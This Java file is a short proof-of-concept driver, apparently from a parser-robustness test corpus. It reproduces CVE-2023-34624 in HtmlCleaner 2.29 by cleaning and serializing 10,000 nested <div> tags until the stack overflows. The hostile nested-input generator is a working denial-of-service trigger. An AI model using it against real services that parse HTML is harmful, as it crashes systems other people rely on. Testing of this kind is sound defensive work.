package corpus.htmlcleaner;

import corpus.CorpusDriver;
import org.htmlcleaner.CleanerProperties;
import org.htmlcleaner.HtmlCleaner;
import org.htmlcleaner.SimpleHtmlSerializer;

/**
 * HtmlCleaner 2.29, CVE-2023-34624 (stack exhaustion on deeply nested HTML, every release through
 * 2.29): 2.29 bounds the depth of its pruning pass, but writing the cleaned tree back out still
 * recurses once per level, by double dispatch: {@code SimpleHtmlSerializer#serialize} calls
 * {@code serialize} on each child through the {@code BaseToken} interface, and
 * {@code TagNode#serialize} calls back through the abstract {@code Serializer#serialize}.
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        // 10,000 levels overflow (4,000 do, on JDK 17 and 25); cleaning 100,000 would take a minute
        int depth = CorpusDriver.depth(args, 10_000);
        String hostile = CorpusDriver.nested("<div>", "x", "</div>", depth);
        CleanerProperties properties = new CleanerProperties();
        CorpusDriver.run("htmlcleaner", HtmlCleaner.class,
                () -> cleanAndWrite(properties, "<div><p>benign <b>bold</b></p><ul><li>1</li><li>2</li></ul></div>"),
                () -> cleanAndWrite(properties, hostile));
    }

    private static String cleanAndWrite(CleanerProperties properties, String html) throws Exception {
        return new SimpleHtmlSerializer(properties).getAsString(new HtmlCleaner(properties).clean(html));
    }
}
